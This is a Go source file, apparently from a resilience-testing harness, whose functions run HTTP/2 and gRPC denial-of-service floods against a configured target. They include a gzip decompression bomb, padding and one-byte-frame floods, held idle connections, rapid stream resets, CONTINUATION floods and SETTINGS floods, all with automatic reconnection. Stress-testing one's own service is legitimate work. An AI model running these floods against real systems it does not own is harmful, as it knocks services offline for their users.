package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"sync"
	"time"
)

// What floods send of the protocol, and never mean.

func identifiers(ctx context.Context, t Target) {
	p := own("flood")
	b := bytes.Repeat(message(&p), 200_000)
	each(ctx, 4, t.Ingest, func(c *conn) {
		c.open(1, endHeaders)
		c.message(1, b, false)
	})
}

func gzipped(ctx context.Context, t Target) {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, 64<<20)) // a buffer takes everything
	_ = w.Close()
	each(ctx, 16, t.Ingest, func(c *conn) {
		c.open(1, endHeaders, "grpc-encoding", "gzip")
		c.message(1, b.Bytes(), true)
	})
}

func padding(ctx context.Context, t Target) {
	each(ctx, 1000, t.Ingest, func(c *conn) {
		c.open(1, endHeaders)
		p := own("flood")
		c.message(1, message(&p), false)
		for range 88 << 10 / 256 {
			c.frame(data, padded, 1, append([]byte{255}, make([]byte, 255)...))
		}
	})
}

func onebyte(ctx context.Context, t Target) {
	each(ctx, 16, t.Ingest, func(c *conn) {
		c.open(1, endHeaders)
		c.frame(data, 0, 1, []byte{0, 3, 0, 0, 0})
		one := bytes.Repeat(frame(data, 0, 1, []byte{0}), 1000)
		for range 4000 {
			c.write(one)
		}
	})
}

func trickle(ctx context.Context, t Target) {
	each(ctx, 50, t.Ingest, func(c *conn) {
		p := own("flood")
		c.open(1, endHeaders)
		c.message(1, message(&p), false)
		for i := range uint32(50) {
			c.open(2*i+3, endHeaders)
			c.frame(data, 0, 2*i+3, append([]byte{0, 0, 16, 0, 0}, make([]byte, 1000)...))
		}
		c.message(1, message(nil), false)
	})
}

func ingest(t Target) (string, int) { return t.Ingest, 5000 }
func https(t Target) (string, int)  { return t.HTTPS, 3000 }
func few(t Target) (string, int)    { return t.Ingest, 400 }

func idle(where func(Target) (target string, connections int)) func(context.Context, Target) {
	return func(ctx context.Context, t Target) {
		target, n := where(t)
		each(ctx, n, target, func(*conn) {})
	}
}

func settingsFrame(uint32) []byte { return frame(settings, 0, 0, []byte{0, 4, 0, 1, 0, 0}) }

func resetFrames(i uint32) []byte {
	return append(frame(headers, endHeaders, 2*i+1, block()), frame(reset, 0, 2*i+1, []byte{0, 0, 0, 8})...)
}

func emptyData(uint32) []byte { return frame(data, 0, 1, nil) }

func endlessHeaders(i uint32) []byte {
	if i == 0 {
		return frame(headers, 0, 1, block())
	}
	return frame(continuation, 0, 1, nil)
}

func parallel(n int, f func(i int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { f(i) })
	}
	all.Wait()
}

// each opens n connections, does something on each, and keeps them; what is closed is opened again.
func each(ctx context.Context, n int, target string, f func(c *conn)) {
	slots := make(chan struct{}, 16) // at work at once
	parallel(n, func(int) {
		for ctx.Err() == nil {
			slots <- struct{}{}
			c, err := dial(ctx, own("flood"), target, nil)
			if err == nil {
				f(c)
			}
			<-slots
			for err == nil && c.err == nil && ctx.Err() == nil && !c.ended.Load() {
				sleep(ctx, time.Second)
			}
			if err == nil {
				_ = c.Close()
			}
			sleep(ctx, time.Second)
		}
	})
}

// flooding sends frames as fast as they are taken on 4 connections, and connects again.
func flooding(next func(i uint32) []byte) func(context.Context, Target) {
	return func(ctx context.Context, t Target) {
		parallel(4, func(int) {
			for ctx.Err() == nil {
				c, err := dial(ctx, own("flood"), t.Ingest, nil)
				if err != nil {
					sleep(ctx, time.Second)
					continue
				}
				var b []byte
				for i := uint32(0); c.err == nil && ctx.Err() == nil; i++ {
					if b = append(b, next(i)...); len(b) > 32<<10 {
						c.write(b)
						b = b[:0]
					}
				}
				_ = c.Close()
			}
		})
	}
}

func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}
